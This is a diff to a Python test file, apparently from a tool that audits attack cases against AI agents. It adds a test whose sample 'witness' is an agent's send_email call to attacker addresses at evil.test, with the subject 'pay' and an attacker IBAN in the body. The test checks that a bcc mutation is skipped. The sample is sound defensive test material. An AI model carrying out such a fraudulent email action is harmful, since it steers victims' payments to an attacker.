@@ -206,6 +206,17 @@ async def test_bcc_leaves_a_mail_alone_where_an_outsider_on_cc_read_the_to_list(
     assert audit.tried == 0 and audit.findings == [], audit
 
 
+async def test_bcc_leaves_a_mail_with_cc_alone(tmp_path: Path) -> None:
+    """Who is in cc reads the To line (a harvest by header): moving To to bcc would hide it, so
+    the operator does not claim that candidate preserves the harm."""
+    witness = [("send_email", {"to": ["x@evil.test"], "cc": ["y@evil.test"], "subject": "pay",
+                               "body": f"IBAN {ATTACKER}"})]  # fmt: skip
+    case = load_case(write_case(tmp_path, "cc", ["email"], MAIL_SETUP, witness, MAIL_REFERENCE,
+                                STRONG_MAIL, markers=(ATTACKER,)))  # fmt: skip
+    audit = await audit_case(case, select("bcc_instead_of_to"), tmp_path / "w")
+    assert audit.tried == 0 and audit.findings == []
+
+
 # --- drive --------------------------------------------------------------------------------------
 
 DRIVE_SETUP = [
